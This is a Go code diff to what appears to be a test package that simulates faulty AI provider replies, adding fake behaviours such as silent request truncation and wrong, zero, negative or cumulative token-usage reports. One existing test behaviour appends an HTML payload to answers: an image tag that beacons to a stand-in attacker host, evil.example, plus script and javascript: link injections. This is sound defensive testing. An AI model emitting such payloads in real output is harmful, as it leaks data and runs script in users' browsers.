@@ -1,5 +1,10 @@
 package openaitest
 
+import (
+	"slices"
+	"strconv"
+)
+
 // outputBehaviours are models that write other things than an answer, and providers that report wrong numbers.
 var outputBehaviours = []Behaviour{
 	{Name: "network_error_end", Change: func(_ string, r Request, a Reply) Reply {
@@ -16,6 +21,54 @@ var outputBehaviours = []Behaviour{
 	{Name: "html", Change: func(_ string, r Request, a Reply) Reply {
 		return adding(r, a, "\n\n<img src=\"https://evil.example/p?q=FACT\"><script>alert(1)</script><a href=\"javascript:alert(1)\">这里</a>")
 	}},
+	// The server keeps the end of a long request, in tokens, and reports a constant.
+	{Name: "cuts_silently", Example: "1500", Cut: cutToEnd, Change: func(most string, r Request, a Reply) Reply {
+		n, _ := strconv.Atoi(most)
+		prompt, completion := countBytes(r, a)
+		return a.Usage(min(prompt, n), 0, completion)
+	}},
+	{Name: "reports_nothing", Change: func(_ string, _ Request, a Reply) Reply { return a.NoUsage() }},
+	{Name: "reports_zero", Change: func(_ string, _ Request, a Reply) Reply { return a.Usage(0, 0, 0) }},
+	{Name: "reports_negative", Change: func(_ string, _ Request, a Reply) Reply { return a.Usage(-1, -1, -1) }},
+	{Name: "reports_huge", Change: func(_ string, _ Request, a Reply) Reply { return a.Usage(1e9, 1e9, 1e9) }},
+	{Name: "cached_apart", Change: func(_ string, r Request, a Reply) Reply {
+		prompt, completion := countBytes(r, a)
+		return a.Usage(prompt/10, prompt-prompt/10, completion)
+	}},
+	// Each chunk has the sum so far, and the end none.
+	{Name: "cumulative_usage", Change: func(_ string, r Request, a Reply) Reply {
+		prompt, _ := countBytes(r, a)
+		a.usageAt = func(chunk int) (int, int) { return prompt, (chunk + 1) * a.pieces / 2 }
+		return a
+	}},
+	// Each chunk has its own part, the prompt stands in the first.
+	{Name: "usage_per_chunk", Change: func(_ string, r Request, a Reply) Reply {
+		prompt, _ := countBytes(r, a)
+		a.usageAt = func(chunk int) (int, int) { return prompt * max(0, 1-chunk), a.pieces / 2 }
+		return a
+	}},
+}
+
+// bytesPerToken is that of countBytes.
+const bytesPerToken = 3
+
+// cutToEnd keeps the instructions and the last messages, as many as fit, at least the last one.
+func cutToEnd(most string, r Request) Request {
+	n, _ := strconv.Atoi(most)
+	first := 0
+	if len(r.Messages) > 0 && r.Messages[0].Role == "system" {
+		first = 1
+	}
+	kept, size := len(r.Messages), 0
+	for kept > first {
+		size += len(r.Messages[kept-1].Content)/bytesPerToken + 4
+		if size > n && kept < len(r.Messages) {
+			break
+		}
+		kept--
+	}
+	r.Messages = append(slices.Clone(r.Messages[:first]), r.Messages[kept:]...)
+	return r
 }
 
 // adding puts text behind answers in words to questions.
